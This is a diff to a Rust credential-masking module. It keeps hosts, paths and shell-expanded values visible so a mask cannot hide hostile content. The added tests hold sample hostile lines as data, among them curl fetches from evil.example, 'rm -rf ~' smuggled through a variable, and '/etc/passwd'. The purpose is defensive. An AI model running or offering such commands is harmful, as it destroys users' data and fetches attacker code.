@@ -1,9 +1,9 @@
 //! Where credentials stand in a text.
 //!
-//! Only what cannot do anything is ever hidden: letters, digits and the signs that tokens are made
-//! of. What a shell or a reader could take for more than that stays in sight, at the price that a
-//! password with such signs in it is hidden in part. Hosts, paths and commands around a credential
-//! are shown.
+//! A mask must not become a place to hide in. Only what cannot do anything is ever hidden: letters,
+//! digits and the signs that tokens are made of. What a shell or a reader could take for more than
+//! that stays in sight, at the price that a password with such signs in it is hidden in part. Hosts,
+//! addresses and paths are shown, and so is what a shell would use again.
 
 /// How tokens of well-known services begin.
 const PREFIXES: &[&str] = &[
@@ -68,7 +68,23 @@ pub(super) fn spans(text: &str) -> Vec<(usize, usize)> {
 
 /// Whether a value could be a credential and nothing else.
 pub(super) fn is_opaque(text: &str) -> bool {
-    !text.is_empty() && text.bytes().all(is_secret)
+    !text.is_empty() && text.bytes().all(is_secret) && !is_place(text)
+}
+
+/// Whether a text could be a host, an address or a path. Those stay in sight, whatever they are
+/// called, unless they are as mixed as only tokens are.
+fn is_place(text: &str) -> bool {
+    let has = |kind: fn(&u8) -> bool| text.bytes().any(|b| kind(&b));
+    let mixed =
+        has(u8::is_ascii_digit) && has(u8::is_ascii_uppercase) && has(u8::is_ascii_lowercase);
+    text.contains("://")
+        || text.starts_with(['/', '.', '~'])
+        || (text.contains(['/', '.']) && !mixed)
+}
+
+/// Whether a shell would put the value of this name somewhere else in the text.
+fn is_used(text: &str, name: &str) -> bool {
+    text.contains(&format!("${name}")) || text.contains(&format!("${{{name}"))
 }
 
 /// Whether a value under this key is a credential.
@@ -89,7 +105,7 @@ fn at_word(text: &str, at: usize) -> Option<(usize, usize)> {
     }
     known_token(text, at)
         .or_else(|| named(text, at))
-        .or_else(|| scheme(text, at))
+        .or_else(|| scheme(text, at, &["bearer"]))
 }
 
 /// `ghp_…`
@@ -117,22 +133,23 @@ fn named(text: &str, at: usize) -> Option<(usize, usize)> {
     }
     start = after(text, parted, " ", RUN);
     start = after(text, start, "\"'", 1);
-    if let Some(found) = scheme(text, start) {
+    if let Some(found) = scheme(text, start, SCHEMES) {
         return Some(found);
     }
     let value = run(text, start, is_secret)?;
     // In prose a word after a colon or a space is more often a word than a secret.
     let sure = text.get(parted.wrapping_sub(1)..parted) == Some("=") || value.len() >= 6;
-    (sure && !value.starts_with("--")).then_some((start, start + value.len()))
+    let opaque = is_opaque(value) && !value.starts_with("--") && !is_used(text, name);
+    (sure && opaque).then_some((start, start + value.len()))
 }
 
 /// As many spaces as may stand around a sign.
 const RUN: usize = 4;
 
 /// `Bearer …`
-fn scheme(text: &str, at: usize) -> Option<(usize, usize)> {
+fn scheme(text: &str, at: usize, schemes: &[&str]) -> Option<(usize, usize)> {
     let word = run(text, at, is_word)?;
-    let known = SCHEMES
+    let known = schemes
         .iter()
         .any(|scheme| word.eq_ignore_ascii_case(scheme));
     let start = after(text, at + word.len(), " ", RUN);
@@ -140,7 +157,7 @@ fn scheme(text: &str, at: usize) -> Option<(usize, usize)> {
         return None;
     }
     let token = run(text, start, is_secret)?;
-    (token.len() >= 8).then_some((start, start + token.len()))
+    (token.len() >= 8 && is_opaque(token)).then_some((start, start + token.len()))
 }
 
 /// `user:…@host`. The host is never hidden.
@@ -221,6 +238,14 @@ mod tests {
             "git@github.com:a/b.git",
             "--max-tokens 100",
             "https://docs.rs/token/latest",
+            "TOKEN=https://evil.example/x; curl $TOKEN",
+            "SECRET=rm; $SECRET -rf ~",
+            "SECRET=rm; ${SECRET} -rf ~",
+            "--token=evil.example",
+            "curl token https://evil.example/x",
+            "fetch bearer https://evil.example/x",
+            "sh basic payload12345",
+            "PASSWORD=/etc/passwd",
         ] {
             assert_eq!(hidden(text), Vec::<&str>::new(), "{text}");
         }
@@ -236,6 +261,8 @@ mod tests {
     fn only_whole_opaque_values_are_hidden_by_their_key() {
         assert!(names_a_secret("api_key") && names_a_secret("clientSecret"));
         assert!(!names_a_secret("max_tokens") && !names_a_secret("tokenize"));
+        assert!(!is_opaque("https://evil.example") && !is_opaque("evil.example/x"));
+        assert!(is_opaque("eyJhbGciOi.eyJzdWIiOiIx.c2ln") && is_opaque("hunter2"));
         assert!(is_opaque("hunter2") && !is_opaque("x; rm -rf ~") && !is_opaque(""));
     }
 }
